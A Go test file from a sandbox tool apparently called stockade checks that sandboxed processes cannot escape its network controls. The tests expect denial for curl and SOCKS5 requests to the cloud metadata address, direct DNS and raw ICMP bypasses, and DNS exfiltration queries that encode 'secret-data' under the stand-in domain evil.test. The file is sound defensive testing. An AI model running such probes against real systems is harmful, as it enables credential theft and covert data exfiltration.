package escape

import (
	"bytes"
	"fmt"
	"os"
)

// testnetQueryLog is where the test host of scripts/testnet.sh logs every DNS
// query name it receives (see test/netenv/server).
const testnetQueryLog = "/run/stk-testnet-queries.log"

// egressRows: with the default network (proxy), the only way out is through
// stockade's proxies and DNS stub on the sandbox's loopback. They are
// reachable, but they refuse the floor (cloud metadata) by address, whatever
// the client; a denied name is NXDOMAIN and never reaches the upstream
// resolver; and the sockets and routes that would go around them still fail.
// Destinations are TEST-NET-2 and link-local only: even a broken sandbox
// sends nothing to a real host.
var egressRows = []row{
	{name: "egress_http_proxy_reachable", args: probe("connect-tcp", "127.0.0.1:3128"), want: "OK"},
	{name: "egress_socks5_reachable", args: probe("connect-tcp", "127.0.0.1:1080"), want: "OK"},
	{name: "egress_proxy_metadata", args: sh(curl403("http://169.254.169.254/latest/meta-data/")), want: "DENIED 403"},
	{name: "egress_proxy_metadata_allow_mode", flags: []string{"--agent-policy", "allow"},
		args: sh(curl403("http://169.254.169.254/latest/meta-data/")), want: "DENIED 403"},
	{name: "egress_connect_metadata", flags: []string{"--agent-policy", "allow"},
		args: sh(curl403("-k https://169.254.169.254/")), want: "DENIED 403"},
	{name: "egress_socks5_metadata", flags: []string{"--agent-policy", "allow"},
		args: sh(socks5IPv4("169.254.169.254", 80)), want: "DENIED SOCKS2"},
	// A proxy-agnostic bypass: talk to the test DNS server directly.
	// Before capture: connect-udp and connect-tcp, ENETUNREACH. UDP now has
	// a route through lo and nothing listening; TCP is captured and denied.
	{name: "egress_direct_dns_udp", args: probe("exchange-udp", "198.51.100.53:53"), want: "DENIED ECONNREFUSED"},
	{name: "egress_direct_dns_tcp", args: probe("exchange-tcp", "198.51.100.53:53"), want: "DENIED ECONNRESET"},
	{name: "egress_raw_icmp", args: probe("socket", "AF_INET", "SOCK_RAW", "IPPROTO_ICMP"), want: "DENIED EPERM"},
	// DNS exfiltration: the data is in the name; a denied name must not leave.
	// The answer inside is checked everywhere; that the test DNS server never
	// saw the name needs scripts/testnet.sh (a failure with STOCKADE_MUST_WORK=1).
	{name: "egress_dns_exfil_getent", flags: []string{"--resolver", "198.51.100.53"},
		args:  sh("getent hosts secret-data.evil.test >/dev/null; [ $? = 2 ] && echo DENIED NXDOMAIN || echo OK"),
		want:  "DENIED NXDOMAIN",
		check: neverForwarded},
	{name: "egress_dns_exfil_txt", flags: []string{"--resolver", "198.51.100.53"},
		args: sh(dnsQuery("c2VjcmV0LWRhdGE.evil.test", 16)), want: "DENIED RCODE3", check: neverForwarded},
}

// curl403 prints "DENIED 403" when the proxy refuses URL (for https, the
// CONNECT), or OK and the status otherwise.
func curl403(args string) string {
	return `w=$(curl -s -o /dev/null -w "%{http_code} %{http_connect}" ` + args + `)
case "$w" in *403*) echo "DENIED 403" ;; *) echo "OK $w" ;; esac`
}

// socks5IPv4 asks the SOCKS5 proxy for an IPv4 literal and prints the reply.
func socks5IPv4(ip string, port int) string {
	return fmt.Sprintf(`python3 -c 'import socket, sys
s = socket.create_connection(("127.0.0.1", 1080), 5)
s.sendall(b"\x05\x01\x00"); s.recv(2)
s.sendall(b"\x05\x01\x00\x01" + socket.inet_aton("%s") + (%d).to_bytes(2, "big"))
r = s.recv(10)
print("OK" if r[1] == 0 else "DENIED SOCKS%%d" %% r[1])'`, ip, port)
}

// dnsQuery sends one query of type qtype for name to the sandbox's DNS stub
// over UDP and prints the response code: a client that skips the C library.
func dnsQuery(name string, qtype int) string {
	return fmt.Sprintf(`python3 -c 'import socket
q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
q += b"".join(bytes([len(l)]) + l.encode() for l in "%s".split(".")) + b"\x00"
q += (%d).to_bytes(2, "big") + b"\x00\x01"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
s.sendto(q, ("127.0.0.1", 53)); r = s.recv(512)
print("DENIED RCODE%%d" %% (r[3] & 15) if r[3] & 15 else "OK")'`, name, qtype)
}

// neverForwarded fails when the test DNS server has ever seen a name under
// evil.test (the log starts empty each time testnet.sh starts the server).
func neverForwarded(*fixture) error {
	b, err := os.ReadFile(testnetQueryLog)
	if err != nil {
		if mustWork {
			return fmt.Errorf("cannot tell whether the name was forwarded (as root: scripts/testnet.sh up): %w", err)
		}
		return nil // the answer inside was still checked
	}
	if bytes.Contains(b, []byte("evil.test")) {
		return fmt.Errorf("a denied name reached the upstream resolver (%s):\n%s", testnetQueryLog, b)
	}
	return nil
}
